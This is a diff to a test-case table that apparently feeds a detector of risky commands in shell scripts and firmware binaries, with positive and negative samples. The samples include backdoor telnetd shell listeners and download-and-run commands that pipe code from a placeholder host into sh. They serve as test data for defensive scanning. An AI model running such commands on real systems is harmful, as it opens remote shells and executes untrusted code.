@@ -83,12 +83,15 @@ CASES: tuple[tuple[str, tuple[bytes, ...], tuple[bytes, ...]], ...] = (
             SH + b"telnetd\n",
             SH + b"[ -x /usr/sbin/telnetd ] && busybox telnetd &\n",
             ELF + b"\0telnetd -l /bin/sh\0",
+            ELF + b"\0system\0/bin/busybox telnetd\0",
             SH + b"start-stop-daemon -S -b -x /usr/sbin/telnetd\n",
         ),
         (
             SH + b"# telnetd is gone\nkillall telnetd\n",
             SH + b'echo "no telnetd here"\n',
             ELF + b"telnetd [OPTIONS]\0telnetd\0",
+            ELF + b"\0system\0no telnetd\0telnetd\0",
+            ELF + b"\0/usr/sbin/telnetd\0",
             SH + b"start-stop-daemon -K -x /usr/sbin/telnetd\n",
         ),
     ),
@@ -201,6 +204,7 @@ CASES: tuple[tuple[str, tuple[bytes, ...], tuple[bytes, ...]], ...] = (
             SH + b"curl -s https://in.invalid/x.sh | sh\n",
             SH + b"wget http://in.invalid/x -O /tmp/x; chmod +x /tmp/x; /tmp/x\n",
             ELF + b'sh -c "$(curl -fsSL https://in.invalid/x)"\0',
+            ELF + b"wget -O /tmp/x.tgz http://%s/x\0tar xzf /tmp/x.tgz && sh /tmp/x/run.sh\0",
         ),
         (
             SH + b"curl -s https://in.invalid/x | jq .\n",
